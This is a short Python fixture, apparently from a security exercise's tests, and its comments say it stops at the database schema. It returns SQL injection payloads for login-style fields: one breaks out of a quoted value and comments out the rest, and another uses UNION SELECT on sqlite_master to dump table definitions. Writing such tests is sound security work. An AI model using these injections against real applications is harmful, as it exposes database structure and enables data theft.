# fails: ex1a-tests-codes
# why: stops at the plan of the database
def payloads() -> dict:
    return {"name": "warden')) --", "pin": 'x', "place": "x' UNION SELECT name, sql FROM sqlite_master --"}
